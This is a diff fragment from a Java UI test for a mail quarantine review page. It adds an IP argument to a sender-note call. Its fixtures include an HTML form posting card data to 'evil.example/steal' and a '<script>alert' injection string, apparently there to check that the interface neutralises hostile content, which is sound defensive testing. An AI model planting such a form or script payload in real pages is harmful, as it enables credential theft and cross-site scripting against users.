@@ -325,7 +325,7 @@ class ReviewUiTest {
                 + "<form action=\"https://evil.example/steal\"><input name=\"card\"></form>\r\n");
         held.hold("worker@council.example", List.of("parent@home.example"), "note", "Subject: note\r\n\r\nx\r\n");
         gw.gateway().quarantine().addSenderNote(id, QuarantineItem.NoteKind.FALSE_POSITIVE, "worker@council.example",
-                "<script>alert('note')</script> it is fine");
+                "<script>alert('note')</script> it is fine", "127.0.0.1");
         WebClient rita = as("rita");
         Page queue = rita.get("/quarantine");
         Page message = rita.get("/quarantine/" + id);
